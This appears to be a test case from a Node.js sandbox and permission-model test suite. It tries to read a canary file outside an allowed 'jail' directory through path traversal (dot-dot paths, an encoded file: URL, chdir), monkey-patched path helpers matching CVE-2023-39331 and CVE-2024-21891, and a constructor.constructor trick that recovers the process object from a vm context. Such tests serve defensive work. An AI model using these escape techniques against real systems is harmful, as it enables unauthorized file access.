/*---
id: pm-path-traversal
title: Path traversal on an allowed prefix, and with patched path helpers
category: permission-model
goal: Read canary.txt with paths that start inside the allowed jail but climb out of it, including after monkey-patching the path helpers the check might rely on.
technique: jail/../canary.txt in string, file: URL and chdir-relative forms, then again after replacing path.resolve / path.toNamespacedPath with functions that return an in-jail path (the patched-helper bypasses of CVE-2023-39331 and CVE-2024-21891).
references: CVE-2023-30584, CVE-2023-39331, CVE-2024-21891, https://nodejs.org/api/permissions.html#file-system-permissions
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const path = P.getBuiltinModule('node:path');
  const cwd = P.cwd();
  const jail = cwd.endsWith('/jail') ? cwd : `${cwd}/jail`;
  const read = (name, p) => {
    try {
      results[name] = fs.readFileSync(p, 'utf8').trim();
    } catch (e) {
      results[name] = e.code || e.message;
    }
  };
  read('dotdot', `${jail}/../canary.txt`);
  read('nested', `${jail}/../jail/./../canary.txt`);
  read('slashes', `${jail}//..//canary.txt`);
  read('url', new (P.getBuiltinModule('node:url').URL)(`file://${jail}/%2e%2e/canary.txt`));
  // chdir is not available in worker threads; restore the cwd for host guests.
  try {
    P.chdir(`${jail}/..`);
    read('chdir', 'canary.txt');
  } catch (e) {
    results.chdir = e.code || e.message;
  } finally {
    try {
      P.chdir(cwd);
    } catch {}
  }
  const saved = { resolve: path.resolve, toNamespacedPath: path.toNamespacedPath };
  try {
    // user-land patches the check must not trust (Node may have frozen them)
    path.resolve = path.toNamespacedPath = () => `${jail}/allowed.txt`;
    read('patchedPath', `${jail}/../canary.txt`);
  } catch (e) {
    results.patchedPath = e.message;
  } finally {
    try {
      Object.assign(path, saved);
    } catch {}
  }
}
console.log('traversal:', P ? JSON.stringify(results) : 'no process object');
results;
